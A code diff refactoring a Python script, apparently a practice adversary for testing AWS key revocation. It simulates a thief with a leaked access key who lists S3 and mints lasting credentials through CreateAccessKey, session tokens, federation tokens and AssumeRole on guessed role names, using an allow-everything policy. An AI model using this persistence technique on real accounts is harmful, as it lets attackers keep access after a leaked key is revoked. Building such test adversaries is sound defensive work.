@@ -1,9 +1,9 @@
 """A thief to practise against: a leaked access key, an endpoint, and nothing else.
 
-Runs alone (``python thief.py``) with the leaked key in the environment. He looks around in S3, makes
-himself credentials that outlive the key, and then uses all of them, round after round, until his
-input ends. Each outcome is one JSON line on standard output: which credential, allowed or not, the
-error code, and when. Secrets stay in his memory.
+Runs alone (``python thief.py``) with the leaked key in the environment. He looks around in S3,
+makes himself credentials that outlive the key, and then uses all of them, round after round, until
+his input ends. Each outcome is one JSON line on standard output: which credential, allowed or not,
+the error code, and when. Secrets stay in his memory.
 
 What he makes is what AWS documents to go on working when the key that made it is deactivated: a
 second key (CreateAccessKey), and the sessions of GetSessionToken, GetFederationToken and AssumeRole
@@ -17,20 +17,26 @@ import os
 import sys
 import threading
 import time
-from collections.abc import Callable, Iterator
+from functools import partial
 from itertools import count
-from typing import Any
+from typing import TYPE_CHECKING, Any
 
 import boto3
 from botocore.config import Config
 from botocore.exceptions import BotoCoreError, ClientError
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
 
 _ROLES = ("admin", "ci", "deploy", "deployment", "terraform")
 _EVERYTHING = json.dumps(
     {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
 )
 _QUICK = Config(
-    retries={"total_max_attempts": 1}, connect_timeout=5, read_timeout=15, s3={"addressing_style": "path"}
+    retries={"total_max_attempts": 1},
+    connect_timeout=5,
+    read_timeout=15,
+    s3={"addressing_style": "path"},
 )
 _PAUSE_S = 0.2
 
@@ -67,7 +73,7 @@ class Thief:
     def round(self) -> Iterator[dict[str, Any]]:
         """Use every credential once, and try to make another session of the role."""
         for name, s3 in self._held.items():
-            yield self._outcome(name, lambda s3=s3: s3.list_objects_v2(Bucket=self._bucket))
+            yield self._outcome(name, partial(s3.list_objects_v2, Bucket=self._bucket))
         yield self._outcome("another role session", self._another_session)
 
     def _another_session(self) -> None:
@@ -81,7 +87,7 @@ class Thief:
                 _client("s3", fresh).list_objects_v2(Bucket=self._bucket)
                 return
 
-    def _assume(self, sts: Any) -> dict[str, Any]:  # noqa: ANN401 -- a client
+    def _assume(self, sts: Any) -> dict[str, Any]:
         assumed: dict[str, Any] = sts.assume_role(RoleArn=self._role, RoleSessionName="build-1337")
         credentials: dict[str, Any] = assumed["Credentials"]
         return credentials
@@ -101,7 +107,7 @@ class Thief:
         try:
             call()
         except ClientError as error:
-            code = error.response["Error"]["Code"]
+            code = error.response.get("Error", {}).get("Code", "unknown")
         except BotoCoreError as error:
             code = type(error).__name__
         return {"credential": name, "allowed": not code, "code": code, "at": time.time()}
@@ -111,10 +117,11 @@ def main() -> None:
     """Steal until the input ends."""
     ended = threading.Event()
     threading.Thread(target=_wait_for_the_end, args=(ended,), daemon=True).start()
+    environ = os.environ  # noqa: TID251 -- a script of its own: the leaked key is all it has
     thief = Thief(
         {
-            "aws_access_key_id": os.environ["AWS_ACCESS_KEY_ID"],  # noqa: TID251 -- all he has
-            "aws_secret_access_key": os.environ["AWS_SECRET_ACCESS_KEY"],  # noqa: TID251 -- as above
+            "aws_access_key_id": environ["AWS_ACCESS_KEY_ID"],
+            "aws_secret_access_key": environ["AWS_SECRET_ACCESS_KEY"],
         }
     )
     thief.settle_in()
@@ -132,8 +139,8 @@ def _wait_for_the_end(ended: threading.Event) -> None:
     ended.set()
 
 
-def _client(service: str, keys: Keys) -> Any:  # noqa: ANN401 -- boto3's clients have no common type
-    return boto3.client(service, config=_QUICK, **keys)  # type: ignore[call-overload]  # noqa: TID251 -- his own
+def _client(service: str, keys: Keys) -> Any:
+    return boto3.client(service, config=_QUICK, **keys)  # type: ignore[call-overload]  # noqa: TID251 -- his own, not the product's
 
 
 def _named(issued: dict[str, Any]) -> Keys:
